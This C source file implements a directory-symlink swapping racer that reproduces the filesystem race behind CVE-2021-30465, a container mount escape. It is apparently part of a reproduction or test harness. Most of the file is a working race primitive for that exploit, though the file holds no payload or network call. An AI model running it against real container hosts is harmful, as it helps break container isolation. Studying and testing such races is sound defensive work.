// racer: swaps a directory entry with symlinks in a tight loop, as a process sharing a volume
// with a container being created would (CVE-2021-30465). DIR/NAME is exchanged with each LINK in
// turn (renameat2 RENAME_EXCHANGE, atomic), so NAME is alternately the directory and a symlink.
// Stops when STOP exists; prints how many exchanges it made.
//
//   racer STOP DIR NAME LINK...
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: racer STOP DIR NAME LINK...\n");
    return 2;
  }
  int dir = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0) {
    perror(argv[2]);
    return 1;
  }
  unsigned long swaps = 0, failed = 0;
  for (unsigned long i = 0;; i++) {
    if ((i & 1023) == 0 && access(argv[1], F_OK) == 0) break;
    const char *link = argv[4 + (i / 2) % (argc - 4)];
    // Two exchanges per link: out to the symlink and back to the directory.
    if (syscall(SYS_renameat2, dir, argv[3], dir, link, RENAME_EXCHANGE) == 0) swaps++;
    else failed++;
  }
  // It stops after an even number of exchanges: NAME is the directory again.
  printf("swaps=%lu failed=%lu\n", swaps, failed);
  return 0;
}
